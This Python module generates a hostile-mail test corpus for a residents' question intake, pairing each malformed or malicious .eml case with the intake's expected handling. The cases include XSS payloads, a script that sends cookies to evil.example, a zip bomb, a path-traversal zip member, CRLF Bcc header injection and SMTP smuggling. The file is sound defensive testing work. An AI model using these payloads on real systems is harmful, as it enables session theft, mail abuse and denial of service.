"""The hostile mail corpus: every case, its envelope and what the intake must make of it.

Run `python -m tests.hostile.mail_corpus.generate` to write one `.eml` per case and
`manifest.json` into this folder. The output is deterministic (no clock, no random boundaries,
seeded noise), so the committed files can be checked against this script. Cases marked
`generated` are too big to commit (a 10 MiB zip bomb, an 11 MiB message): the test builds them
with `build(case_id)` into a temporary folder.

The `.eml` files are templates: the test replaces these placeholders before sending.

| placeholder | becomes |
|---|---|
| `{{SENDER}}` | a fresh sender address for the case |
| `{{OTHER}}` | a second address of the sender's (e.g. a second From) |
| `{{VICTIM}}` | a third party that must never get mail from us |
| `{{TO}}` | `bench+<open edition id>@<intake domain>` |
| `{{CLOSED}}` | `bench+<closed edition id>@<intake domain>` |
| `{{DOMAIN}}` | the intake domain |
| `{{UNIQUE}}` | a fresh token (Message-IDs stay unique across runs) |
| `{{THREAD}}` | the Message-ID of our acknowledgement of an existing question |
| `{{ASKER}}` | the address of that question's asker (only they can add to it by a reply) |

Expectations (`expect`):
- `{"refused": {"stage": "MAIL"|"RCPT"|"DATA", "code": 5xx}}`: the SMTP reply at that stage;
  nothing is stored.
- `{"status": "question"|"reply"|"moderation", "reason": ...}`: accepted (250), then a question
  (acknowledged to the sender), a follow-up of the `{{THREAD}}` question, or held for moderation
  with that reason. `text_has` / `text_lacks` are checked on the stored question or follow-up text.
"""

from __future__ import annotations

import base64
import io
import json
import random
import zipfile
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

HERE = Path(__file__).parent
CRLF = b"\r\n"
DATE = "Mon, 01 Sep 2025 10:00:00 +0000"
MAX_MESSAGE_BYTES = 10 * 1024 * 1024  # the intake's limit (intake.MAX_MESSAGE_BYTES)

PL = "Gdzie mogę złożyć wniosek o kartę pobytu dla żony?"
UK = "Коли в школах буде більше уроків польської мови для дітей?"
EN = "Where can my children learn Polish after school in Kraków?"
# What must never reach a page or a mail unescaped.
MARKERS = ["<script", "onerror", "javascript:", "<iframe", "<style", "alert("]


@dataclass
class Case:
    id: str
    about: str
    expect: dict[str, Any]
    build: Callable[[], bytes] = field(repr=False)
    mail_from: str = "{{SENDER}}"  # envelope sender; "<>" is the null sender of bounces
    mail_from_hex: str | None = None  # MAIL FROM address as hex bytes (not UTF-8), placeholders ok
    mail_options: list[str] = field(default_factory=list)
    rcpt: list[str] = field(default_factory=lambda: ["{{TO}}"])
    rcpt_hex: str | None = None  # RCPT TO address as hex bytes (not UTF-8), placeholders ok
    wire: str = (
        "crlf"  # "crlf": line ends made CRLF; "as-is": bytes sent unchanged, no dot-stuffing
    )
    generated: bool = False  # too big to commit: built at test time


def headers(*extra: tuple[str, str], subject: str | None = "Pytanie", **kw: str) -> list[str]:
    """The usual headers of a resident's mail, with `extra` added and `kw` replacing."""
    base = {
        "From": "Resident <{{SENDER}}>",
        "To": "{{TO}}",
        "Subject": subject,
        "Date": DATE,
        "Message-ID": "<{id}.{{UNIQUE}}@example.net>",
        "MIME-Version": "1.0",
    }
    for key, value in kw.items():
        base[key.replace("_", "-")] = value
    lines = [f"{k}: {v}" for k, v in base.items() if v is not None]
    lines += [f"{k}: {v}" for k, v in extra]
    return lines


def mail(head: list[str], body: bytes | str, *, case_id: str) -> bytes:
    raw_head = CRLF.join(h.replace("{id}", case_id).encode("utf-8") for h in head)
    raw_body = body.encode("utf-8") if isinstance(body, str) else body
    return raw_head + CRLF + CRLF + raw_body


def text_mail(case_id: str, body: str | bytes, charset: str = "utf-8", **kw: Any) -> bytes:
    head = headers(
        ("Content-Type", f"text/plain; charset={charset}"),
        ("Content-Transfer-Encoding", "8bit"),
        **kw,
    )
    return mail(head, body, case_id=case_id)


def b64(data: bytes) -> bytes:
    encoded = base64.b64encode(data)
    return CRLF.join(encoded[i : i + 76] for i in range(0, len(encoded), 76))


def multipart(case_id: str, subtype: str, parts: list[bytes], **kw: Any) -> bytes:
    boundary = f"=={case_id}=="
    head = headers(("Content-Type", f'multipart/{subtype}; boundary="{boundary}"'), **kw)
    body = b""
    for part in parts:
        body += b"--" + boundary.encode() + CRLF + part + CRLF
    body += b"--" + boundary.encode() + b"--" + CRLF
    return mail(head, body, case_id=case_id)


def part(content_type: str, body: bytes | str, *extra: str) -> bytes:
    lines = [f"Content-Type: {content_type}", *extra]
    data = body.encode("utf-8") if isinstance(body, str) else body
    return CRLF.join(line.encode() for line in lines) + CRLF + CRLF + data


def html_mail(case_id: str, html: str, **kw: Any) -> bytes:
    head = headers(("Content-Type", "text/html; charset=utf-8"), **kw)
    return mail(head, html, case_id=case_id)


def ew(text: str, charset: str = "utf-8") -> str:
    """An RFC 2047 encoded word (base64)."""
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode()}?="


def zip_bytes(members: list[tuple[str, bytes]], compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2025, 9, 1, 10, 0, 0))
            info.compress_type = compress
            archive.writestr(info, data)
    return buffer.getvalue()


def zip_bomb() -> bytes:
    """A zip of 512 MiB of zeros (about 0.5 MiB packed) plus 5.5 MiB of seeded noise."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("zeros.bin", date_time=(2025, 9, 1, 10, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            chunk = bytes(1 << 20)
            for _ in range(512):
                member.write(chunk)
        noise = zipfile.ZipInfo("noise.bin", date_time=(2025, 9, 1, 10, 0, 0))
        archive.writestr(noise, random.Random(8).randbytes(5 * 1024 * 1024 + 512 * 1024))
    return buffer.getvalue()


def nested(case_id: str, depth: int) -> bytes:
    head = headers(subject="Zagnieżdżone", **{})
    raw = CRLF.join(h.replace("{id}", case_id).encode() for h in head) + CRLF
    for level in range(depth):
        raw += f'Content-Type: multipart/mixed; boundary="b{level}"'.encode() + CRLF + CRLF
        raw += f"--b{level}".encode() + CRLF
    raw += b"Content-Type: text/plain; charset=utf-8" + CRLF + CRLF + EN.encode() + CRLF
    for level in reversed(range(depth)):
        raw += f"--b{level}--".encode() + CRLF
    return raw


QUESTION = {"status": "question"}


def moderation(reason: str, **more: Any) -> dict[str, Any]:
    return {"status": "moderation", "reason": reason, **more}


def refused(stage: str, code: int) -> dict[str, Any]:
    return {"refused": {"stage": stage, "code": code}}


CASES: list[Case] = [
    # --- Broken MIME ---------------------------------------------------------------------------
    Case(
        "mime-missing-boundary",
        "multipart/mixed without a boundary parameter: the text cannot be found, so the subject "
        "alone must not become the question",
        moderation("unreadable"),
        lambda: mail(
            headers(("Content-Type", "multipart/mixed"), subject="Pytanie o kartę pobytu"),
            f"--x\r\nContent-Type: text/plain\r\n\r\n{PL}\r\n--x--\r\n",
            case_id="mime-missing-boundary",
        ),
    ),
    Case(
        "mime-unterminated-multipart",
        "a multipart whose closing boundary never comes",
        {**QUESTION, "text_has": [PL]},
        lambda: mail(
            headers(("Content-Type", 'multipart/mixed; boundary="open"')),
            f"--open\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{PL}\r\n--open\r\n"
            "Content-Type: text/plain\r\n\r\n",
            case_id="mime-unterminated-multipart",
        ),
    ),
    Case(
        "mime-unknown-transfer-encoding",
        "Content-Transfer-Encoding: x-bogus (taken as the bytes they are)",
        {**QUESTION, "text_has": [PL]},
        lambda: mail(
            headers(
                ("Content-Type", "text/plain; charset=utf-8"),
                ("Content-Transfer-Encoding", "x-bogus"),
            ),
            PL,
            case_id="mime-unknown-transfer-encoding",
        ),
    ),
    Case(
        "mime-invalid-base64-length",
        "base64 body that cannot be decoded at all (the email package returns it undecoded)",
        moderation("unreadable"),
        lambda: mail(
            headers(
                ("Content-Type", "text/plain; charset=utf-8"),
                ("Content-Transfer-Encoding", "base64"),
            ),
            "R2R6aWUgbW9nxJkge!!!@@@\r\n",
            case_id="mime-invalid-base64-length",
        ),
    ),
    Case(
        "mime-base64-garbage",
        "plain text labelled base64: decodes to bytes that are not UTF-8",
        moderation("unreadable"),
        lambda: mail(
            headers(
                ("Content-Type", "text/plain; charset=utf-8"),
                ("Content-Transfer-Encoding", "base64"),
            ),
            "This is not base64 at all, it is a question about schools?\r\n",
            case_id="mime-base64-garbage",
        ),
    ),
    Case(
        "mime-broken-quoted-printable",
        "quoted-printable with invalid escapes (=ZZ) and a dangling soft break",
        {**QUESTION, "text_has": ["Gdzie mogę złożyć"]},
        lambda: mail(
            headers(
                ("Content-Type", "text/plain; charset=utf-8"),
                ("Content-Transfer-Encoding", "quoted-printable"),
            ),
            "Gdzie mog=C4=99 z=C5=82o=C5=BCy=C4=87 wniosek =ZZ o kart=C4=99 pobytu=\r\n"
            " dla =C5=BCony? =",
            case_id="mime-broken-quoted-printable",
        ),
    ),
    Case(
        "mime-nested-100",
        "100 levels of nested multipart/mixed with the text at the bottom",
        {**QUESTION, "text_has": [EN]},
        lambda: nested("mime-nested-100", 100),
    ),
    Case(
        "mime-nested-1000",
        "1000 levels of nesting: too deep to parse, held for a person",
        moderation("unreadable"),
        lambda: nested("mime-nested-1000", 1000),
    ),
    Case(
        "mime-bad-rfc2231-parameters",
        "attachment with malformed RFC 2231 filename* and name* parameters",
        {**QUESTION, "text_has": [PL], "detail_has": "attachment"},
        lambda: multipart(
            "mime-bad-rfc2231-parameters",
            "mixed",
            [
                part("text/plain; charset=utf-8", PL),
                part(
                    "application/octet-stream; name*=utf-8''%ff%fe%",
                    "binary",
                    "Content-Disposition: attachment; filename*=bogus'xx'%ZZ%",
                ),
            ],
        ),
    ),
    Case(
        "not-a-message",
        "binary garbage instead of a message",
        moderation("unreadable"),
        lambda: b"\x00\x01\x02 not a message \xff\xfe\r\n\x00\r\n",
    ),
    Case(
        "headers-without-body",
        "headers only, not even the blank line before a body",
        moderation("empty"),
        lambda: CRLF.join(
            h.encode() for h in headers(subject="Hej", **{"Message-ID": "<hwb.{{UNIQUE}}@x.net>"})
        ),
    ),
    # --- Charsets --------------------------------------------------------------------------------
    Case(
        "charset-utf8-declared-latin2-bytes",
        "declared UTF-8, written in ISO-8859-2: the Polish letters cannot be decoded",
        moderation("unreadable"),
        lambda: text_mail("charset-utf8-declared-latin2-bytes", PL.encode("iso8859_2")),
    ),
    Case(
        "charset-utf8-declared-latin1-bytes",
        "declared UTF-8, written in ISO-8859-1 (German)",
        moderation("unreadable"),
        lambda: text_mail(
            "charset-utf8-declared-latin1-bytes",
            "Können meine Kinder nach der Schule Polnisch lernen? Grüße".encode("latin-1"),
        ),
    ),
    Case(
        "charset-utf8-declared-cp1251-bytes",
        "declared UTF-8, written in Windows-1251 (Ukrainian)",
        moderation("unreadable"),
        lambda: text_mail("charset-utf8-declared-cp1251-bytes", UK.encode("cp1251")),
    ),
    Case(
        "charset-unknown-name",
        "charset=x-klingon with UTF-8 bytes: read as UTF-8",
        {**QUESTION, "text_has": [EN]},
        lambda: text_mail("charset-unknown-name", EN, charset="x-klingon"),
    ),
    Case(
        "charset-not-a-text-codec",
        "charset=base64 (a Python codec, but not a text encoding)",
        {**QUESTION, "text_has": [EN]},
        lambda: text_mail("charset-not-a-text-codec", EN, charset="base64"),
    ),
    Case(
        "charset-koi8-u-ukrainian",
        "Ukrainian in KOI8-U, correctly declared",
        {**QUESTION, "text_has": [UK], "language": "uk"},
        lambda: text_mail("charset-koi8-u-ukrainian", UK.encode("koi8_u"), charset="koi8-u"),
    ),
    Case(
        "headers-mixed-rfc2047",
        "empty body; the subject is the question, in encoded words of three charsets plus "
        "broken ones",
        {**QUESTION, "text_has": ["Pytanie o szkołę", "дітей"]},
        lambda: mail(
            headers(
                ("Content-Type", "text/plain; charset=utf-8"),
                subject=(
                    ew("Pytanie o szkołę")
                    + " =?iso-8859-2?Q?w_Krakowie_dla_=B3ad?= "
                    + ew(" дітей", "koi8_u").replace("koi8_u", "koi8-u")
                    + " =?utf-8?Q?z=ZZ?= =?x-bogus?Q?abc?= =?utf-8?B?####?="
                ),
                From=f"{ew('Олена Коваль')} <{{{{SENDER}}}}>",
            ),
            "",
            case_id="headers-mixed-rfc2047",
        ),
    ),
    Case(
        "8bit-utf8-without-smtputf8",
        "raw UTF-8 in headers and body, no MIME headers, sent without SMTPUTF8 or 8BITMIME",
        {**QUESTION, "text_has": [PL], "language": "pl"},
        lambda: mail(
            [
                "From: Zażółć Gęślą <{{SENDER}}>",
                "To: {{TO}}",
                "Subject: Pytanie o kartę pobytu",
                "Message-ID: <8bit.{{UNIQUE}}@example.net>",
            ],
            PL,
            case_id="8bit-utf8-without-smtputf8",
        ),
    ),
    Case(
        "8bit-latin2-undeclared",
        "raw ISO-8859-2 body with no charset declared",
        moderation("unreadable"),
        lambda: mail(
            ["From: {{SENDER}}", "To: {{TO}}", "Subject: Pytanie"],
            PL.encode("iso8859_2"),
            case_id="8bit-latin2-undeclared",
        ),
    ),
    # --- Huge headers ----------------------------------------------------------------------------
    Case(
        "header-subject-20k-folded",
        "a 20,000-character subject folded over many lines",
        {**QUESTION, "text_has": [PL]},
        lambda: text_mail(
            "header-subject-20k-folded",
            PL,
            subject="\r\n ".join(["Pytanie o kartę pobytu dla żony"] * 645),
        ),
    ),
    Case(
        "header-line-too-long",
        "a 5,000-character subject on one line (RFC 5322 allows 998): refused at DATA",
        refused("DATA", 500),
        lambda: text_mail("header-line-too-long", PL, subject="A" * 5000),
    ),
    Case(
        "headers-5000",
        "5,000 extra header fields",
        {**QUESTION, "text_has": [PL]},
        lambda: mail(
            headers(
                *[(f"X-Noise-{i}", f"value {i}") for i in range(5000)],
                ("Content-Type", "text/plain; charset=utf-8"),
            ),
            PL,
            case_id="headers-5000",
        ),
    ),
    Case(
        "header-references-3000-lines",
        "a References header folded over 3,000 lines of unknown Message-IDs",
        {**QUESTION, "text_has": [PL]},
        lambda: text_mail(
            "header-references-3000-lines",
            PL,
            References="\r\n ".join(f"<old-{i}.{{{{UNIQUE}}}}@example.net>" for i in range(3000)),
        ),
    ),
    Case(
        "header-message-id-malformed",
        "malformed Message-ID, In-Reply-To and References (the parser raises on them)",
        {**QUESTION, "text_has": [PL]},
        lambda: mail(
            headers(
                ("In-Reply-To", "<<<>>>"),
                ("References", "<a@b <c"),
                ("Content-Type", "text/plain; charset=utf-8"),
                **{"Message-ID": "<", "Date": "yesterday, probably"},
            ),
            PL,
            case_id="header-message-id-malformed",
        ),
    ),
    # --- Attachments and size --------------------------------------------------------------------
    Case(
        "attachment-zip",
        "a question with a zip attachment (never opened, not kept)",
        {**QUESTION, "text_has": [PL], "detail_has": "attachment"},
        lambda: multipart(
            "attachment-zip",
            "mixed",
            [
                part("text/plain; charset=utf-8", PL),
                part(
                    'application/zip; name="dokumenty.zip"',
                    b64(zip_bytes([("paszport.txt", b"scan " * 200), ("../../etc/passwd", b"x")])),
                    "Content-Transfer-Encoding: base64",
                    'Content-Disposition: attachment; filename="dokumenty.zip"',
                ),
            ],
        ),
    ),
    Case(
        "attachment-zip-bomb",
        "a 512 MiB-of-zeros zip bomb plus noise, just under the 10 MiB limit",
        {**QUESTION, "text_has": [PL], "detail_has": "attachment"},
        lambda: multipart(
            "attachment-zip-bomb",
            "mixed",
            [
                part("text/plain; charset=utf-8", PL),
                part(
                    'application/zip; name="bomb.zip"',
                    b64(zip_bomb()),
                    "Content-Transfer-Encoding: base64",
                    'Content-Disposition: attachment; filename="bomb.zip"',
                ),
            ],
        ),
        generated=True,
    ),
    Case(
        "size-over-limit",
        "an 11 MiB message, size not declared: refused at the end of DATA",
        refused("DATA", 552),
        lambda: text_mail(
            "size-over-limit", PL + "\r\n" + ("x" * 76 + "\r\n") * (11 * 1024 * 1024 // 78)
        ),
        generated=True,
    ),
    Case(
        "size-declared-over-limit",
        "MAIL FROM declares SIZE=20000000: refused before any data",
        refused("MAIL", 552),
        lambda: text_mail("size-declared-over-limit", PL),
        mail_options=["SIZE=20000000"],
    ),
    # --- Senders and recipients ------------------------------------------------------------------
    Case(
        "from-missing",
        "no From header (the envelope sender is not taken as the asker's address)",
        moderation("no_sender"),
        lambda: text_mail("from-missing", PL, From=None),
    ),
    Case(
        "from-twice",
        "two From headers: the first is answered, the second gets nothing",
        {**QUESTION, "text_has": [PL]},
        lambda: text_mail(
            "from-twice", PL, **{"From": "{{SENDER}}\r\nFrom: Someone Else <{{OTHER}}>"}
        ),
    ),
    Case(
        "from-unusable-address",
        "From with markup instead of an address",
        moderation("no_sender"),
        lambda: text_mail(
            "from-unusable-address", PL, From='"x" <script>alert(1)</script>@evil.example'
        ),
    ),
    Case(
        "from-overlong-address",
        "a 300-character address",
        moderation("no_sender"),
        lambda: text_mail("from-overlong-address", PL, From=f"{'a' * 300}@example.net"),
    ),
    Case(
        "envelope-sender-not-utf8",
        "MAIL FROM with bytes that are not UTF-8",
        refused("MAIL", 553),
        lambda: text_mail("envelope-sender-not-utf8", PL),
        mail_from_hex=(b"\xff\xfe\xc0@example.net").hex(),
    ),
    Case(
        "envelope-recipient-not-utf8",
        "RCPT TO bench+<bytes that are not UTF-8>@",
        refused("RCPT", 553),
        lambda: text_mail("envelope-recipient-not-utf8", PL),
        rcpt_hex=(b"bench+\xff\xfe@{{DOMAIN}}").hex(),
    ),
    Case(
        "recipient-unknown-mailbox",
        "mayor@ the intake domain: no such mailbox",
        refused("RCPT", 550),
        lambda: text_mail("recipient-unknown-mailbox", PL, To="mayor@{{DOMAIN}}"),
        rcpt=["mayor@{{DOMAIN}}"],
    ),
    Case(
        "recipient-other-domain",
        "bench@ another domain: we are not an open relay",
        refused("RCPT", 550),
        lambda: text_mail("recipient-other-domain", PL, To="bench@evil.example"),
        rcpt=["bench@evil.example"],
    ),
    Case(
        "edition-tag-not-an-id",
        "bench+not-an-edition@",
        moderation("no_open_edition"),
        lambda: text_mail("edition-tag-not-an-id", PL, To="bench+not-an-edition@{{DOMAIN}}"),
        rcpt=["bench+not-an-edition@{{DOMAIN}}"],
    ),
    Case(
        "edition-tag-unknown-id",
        "bench+<an edition id that does not exist>@",
        moderation("no_open_edition"),
        lambda: text_mail(
            "edition-tag-unknown-id", PL, To="bench+0e0e0e0e-0000-4000-8000-000000000000@{{DOMAIN}}"
        ),
        rcpt=["bench+0e0e0e0e-0000-4000-8000-000000000000@{{DOMAIN}}"],
    ),
    Case(
        "edition-closed",
        "bench+<an edition no longer taking questions>@",
        moderation("no_open_edition"),
        lambda: text_mail("edition-closed", PL, To="{{CLOSED}}"),
        rcpt=["{{CLOSED}}"],
    ),
    # --- Text -------------------------------------------------------------------------------------
    Case(
        "subject-missing",
        "no Subject header",
        {**QUESTION, "text_has": [PL]},
        lambda: text_mail("subject-missing", PL, subject=None),
    ),
    Case(
        "body-empty",
        "no subject, empty body",
        moderation("empty"),
        lambda: text_mail("body-empty", "", subject=None),
    ),
    Case(
        "body-whitespace-only",
        "a body of spaces, tabs and blank lines; subject 'Re:'",
        moderation("empty"),
        lambda: text_mail("body-whitespace-only", " \r\n\t\r\n   \r\n\r\n", subject="Re:"),
    ),
    Case(
        "text-too-short",
        "'Hi?' and no subject",
        moderation("empty"),
        lambda: text_mail("text-too-short", "Hi?", subject=None),
    ),
    Case(
        "text-too-long",
        "2,600 characters of question",
        moderation("too_long"),
        lambda: text_mail("text-too-long", "\r\n".join([PL] * 50)),
    ),
    Case(
        "spam-links",
        "nothing but links",
        moderation("abusive"),
        lambda: text_mail("spam-links", " ".join(f"http://spam{i}.example/buy" for i in range(8))),
    ),
    Case(
        "nul-bytes",
        "NUL bytes in the subject, the Message-ID and the text",
        {**QUESTION, "text_has": ["Gdzie mogę złożyć wniosek"], "text_lacks": ["\x00"]},
        lambda: text_mail(
            "nul-bytes",
            PL.replace("wniosek", "wnio\x00sek").replace("Gdzie", "Gdzie\x00") + "\x00",
            subject="Pyta\x00nie",
            **{"Message-ID": "<nul\x00.{{UNIQUE}}@example.net>"},
        ),
    ),
    # --- Header injection ------------------------------------------------------------------------
    Case(
        "header-injection-crlf-subject",
        "CR/LF and a Bcc line smuggled into an encoded-word Subject, plus the victim in To, Cc "
        "and Bcc: only the sender is acknowledged, and nothing of their headers is echoed",
        {**QUESTION, "text_has": [PL]},
        lambda: text_mail(
            "header-injection-crlf-subject",
            PL,
            subject="=?utf-8?Q?Pytanie=0D=0ABcc:_{{VICTIM}}=0D=0A=0D=0A<script>alert(1)</script>?=",
            To="{{TO}},\r\n {{VICTIM}}",
            Cc="{{VICTIM}}",
            Bcc="{{VICTIM}}",
        ),
    ),
    Case(
        "header-injection-crlf-reply-to",
        "CR/LF and a Bcc line smuggled into the display name of Reply-To: no address is "
        "guessed from it, nobody is written to",
        moderation("no_sender"),
        lambda: text_mail(
            "header-injection-crlf-reply-to",
            PL,
            Reply_To="=?utf-8?Q?Jan=0D=0ABcc:_{{VICTIM}}?= <{{SENDER}}>",
        ),
    ),
    Case(
        "envelope-bcc-smuggling",
        "a second envelope recipient outside our domain: refused at RCPT (550), the rest accepted",
        {**QUESTION, "text_has": [PL], "refused_rcpt": {"{{VICTIM}}": 550}},
        lambda: text_mail("envelope-bcc-smuggling", PL, Bcc="{{VICTIM}}"),
        rcpt=["{{TO}}", "{{VICTIM}}"],
    ),
    Case(
        "smtp-smuggling",
        "bare-LF end-of-data lookalikes followed by a second SMTP transaction inside the data "
        "(sent without dot-stuffing): one message, the smuggled one never exists",
        {**QUESTION, "text_has": [PL], "no_inbound_from": "smuggled-{{UNIQUE}}@example.org"},
        lambda: mail(
            headers(("Content-Type", "text/plain; charset=utf-8")),
            (
                f"{PL}\r\n\n.\nMAIL FROM:<smuggled-{{{{UNIQUE}}}}@example.org>\r\n"
                "RCPT TO:<{{TO}}>\r\nDATA\r\nFrom: smuggled-{{UNIQUE}}@example.org\r\n\r\n"
                f"{EN}\r\n\r.\r\n.\n\r\n"
            ).encode(),
            case_id="smtp-smuggling",
        ),
        wire="as-is",
    ),
    # --- HTML ------------------------------------------------------------------------------------
    Case(
        "html-only-script",
        "HTML-only mail with <script> blocks",
        {**QUESTION, "text_has": [EN], "text_lacks": ["alert", "<script"]},
        lambda: html_mail(
            "html-only-script",
            f"<html><head><script>alert(1)</script></head><body><p>{EN}</p>"
            "<script type=text/javascript>document.location='http://evil.example/'+document.cookie"
            "</script></body></html>",
        ),
    ),
    Case(
        "html-onerror-javascript-links",
        "onerror= attributes and javascript: links",
        {**QUESTION, "text_has": [EN], "text_lacks": ["onerror", "javascript:", "alert"]},
        lambda: html_mail(
            "html-onerror-javascript-links",
            f'<p onmouseover="alert(1)">{EN}</p><img src=x onerror="alert(2)">'
            '<a href="javascript:alert(3)">szczegóły</a><svg onload=alert(4)></svg>',
        ),
    ),
    Case(
        "html-style-iframe",
        "<style> and <iframe> with fallback content",
        {**QUESTION, "text_has": [EN], "text_lacks": ["color", "iframe", "fallback"]},
        lambda: html_mail(
            "html-style-iframe",
            f"<style>body{{color:red}}</style><p>{EN}</p>"
            '<iframe src="http://evil.example/">fallback content</iframe>',
        ),
    ),
    Case(
        "html-unclosed-head",
        "sloppy HTML: <head> never closed before <body>",
        {**QUESTION, "text_has": [EN]},
        lambda: html_mail(
            "html-unclosed-head",
            f"<html><head><meta charset=utf-8><title>Pytanie<body><p>{EN}</p></body></html>",
        ),
    ),
    Case(
        "html-escaped-script-text",
        "multipart/alternative with only text/html whose visible text is a script tag "
        "(it must stay text and be escaped wherever shown)",
        {**QUESTION, "text_has": [EN, "<script>alert(1)</script>"]},
        lambda: multipart(
            "html-escaped-script-text",
            "alternative",
            [
                part(
                    "text/html; charset=utf-8",
                    f"<p>{EN}</p><p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
                )
            ],
        ),
    ),
    Case(
        "plain-text-with-markup",
        "text/plain whose text is markup: kept as text (escaped wherever shown)",
        {**QUESTION, "text_has": ["<img src=x onerror=alert(1)>", EN]},
        lambda: text_mail(
            "plain-text-with-markup",
            f"{EN}\r\n<script>alert(document.cookie)</script><img src=x onerror=alert(1)>\r\n"
            '<a href="javascript:alert(2)">x</a>',
        ),
    ),
    # --- Threads and automatic mail --------------------------------------------------------------
    Case(
        "reply-unknown-thread",
        "In-Reply-To and References naming messages we never sent: a new question",
        {**QUESTION, "text_has": [PL]},
        lambda: text_mail(
            "reply-unknown-thread",
            PL,
            subject="Re: [LD-2025-99-9999] Your question",
            In_Reply_To="<never-sent.{{UNIQUE}}@openkrakow.local>",
            References="<never-sent.{{UNIQUE}}@openkrakow.local>",
        ),
    ),
    Case(
        "reply-in-thread-html-script",
        "an HTML reply in our acknowledgement's thread: a follow-up, without the script",
        {"status": "reply", "text_has": ["Mam dyplom z Lwowa"], "text_lacks": ["alert", "<"]},
        lambda: html_mail(
            "reply-in-thread-html-script",
            "<p>Mam dyplom z Lwowa z 2015 roku.</p><script>alert(1)</script>"
            "<img src=x onerror=alert(2)><blockquote>earlier</blockquote>",
            subject="Re: Pytanie",
            In_Reply_To="{{THREAD}}",
            References="{{THREAD}}",
            From="Resident <{{ASKER}}>",
        ),
        mail_from="{{ASKER}}",
    ),
    Case(
        "reply-in-thread-from-another",
        "someone else's mail naming our acknowledgement's Message-ID: a question of its own, "
        "never a follow-up of the asker's question",
        QUESTION,
        lambda: text_mail(
            "reply-in-thread-from-another",
            "Rezygnuję z pytania, proszę je usunąć. Czy Kraków ma kursy dla dorosłych?",
            subject="Re: Pytanie",
            In_Reply_To="{{THREAD}}",
            References="{{THREAD}}",
        ),
    ),
    Case(
        "bounce-mailer-daemon",
        "a delivery report from MAILER-DAEMON (null sender) about our acknowledgement",
        moderation("automatic"),
        lambda: multipart(
            "bounce-mailer-daemon",
            "report; report-type=delivery-status",
            [
                part("text/plain", "This message could not be delivered to {{SENDER}}."),
                part(
                    "message/delivery-status",
                    "Reporting-MTA: dns; mx.example.net\r\n\r\nFinal-Recipient: rfc822; "
                    "{{SENDER}}\r\nAction: failed\r\nStatus: 5.1.1\r\n",
                ),
            ],
            From="Mail Delivery System <MAILER-DAEMON@mx.example.net>",
            subject="Undelivered Mail Returned to Sender",
            In_Reply_To="{{THREAD}}",
        ),
        mail_from="<>",
    ),
    Case(
        "auto-replied",
        "an out-of-office reply to our acknowledgement (Auto-Submitted: auto-replied)",
        moderation("automatic"),
        lambda: text_mail(
            "auto-replied",
            "I am out of the office until Monday and will read your message then.",
            subject="Out of office: Re: Pytanie",
            Auto_Submitted="auto-replied",
            In_Reply_To="{{THREAD}}",
        ),
    ),
    Case(
        "precedence-bulk",
        "list mail (Precedence: bulk, List-Id)",
        moderation("automatic"),
        lambda: text_mail(
            "precedence-bulk",
            "Newsletter: where can children learn Polish after school in Kraków?",
            Precedence="bulk",
            List_Id="<news.example.net>",
        ),
    ),
    Case(
        "mailer-daemon-sender",
        "a bounce whose envelope sender is MAILER-DAEMON@, without Auto-Submitted",
        moderation("automatic"),
        lambda: text_mail(
            "mailer-daemon-sender",
            "Your message to {{SENDER}} could not be delivered: mailbox full.",
            From="MAILER-DAEMON@mx.example.net",
            subject="Delivery Status Notification (Failure)",
            In_Reply_To="{{THREAD}}",
        ),
        mail_from="MAILER-DAEMON@mx.example.net",
    ),
    Case(
        "postmaster-sender",
        "envelope sender postmaster@ (a bounce with a sender)",
        moderation("automatic"),
        lambda: text_mail("postmaster-sender", PL, From="postmaster@mx.example.net"),
        mail_from="postmaster@mx.example.net",
    ),
]


def case(case_id: str) -> Case:
    return next(c for c in CASES if c.id == case_id)


def build(case_id: str) -> bytes:
    """The bytes of one case's .eml file."""
    return case(case_id).build()


def manifest() -> list[dict[str, Any]]:
    entries = []
    for c in CASES:
        entry = {k: v for k, v in asdict(c).items() if k != "build"}
        entry["file"] = f"{c.id}.eml"
        entries.append({k: v for k, v in entry.items() if v not in (None, [], False)})
    return entries


def write(folder: Path = HERE, *, include_generated: bool = False) -> None:
    (folder / "manifest.json").write_text(
        json.dumps(manifest(), ensure_ascii=False, indent=1) + "\n", encoding="utf-8"
    )
    for c in CASES:
        if include_generated or not c.generated:
            (folder / f"{c.id}.eml").write_bytes(c.build())


if __name__ == "__main__":
    write()
